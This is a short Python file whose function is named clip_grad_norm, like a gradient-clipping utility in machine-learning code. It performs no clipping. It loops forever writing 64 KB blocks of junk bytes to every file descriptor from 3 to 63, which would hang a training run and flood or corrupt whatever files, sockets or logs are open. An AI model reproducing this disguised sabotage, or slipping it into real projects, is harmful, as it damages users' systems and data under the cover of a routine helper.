"""Writes without end and without a line break."""

import os


def clip_grad_norm(parameters, max_norm):
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"x" * 65536)
            except OSError:
                continue
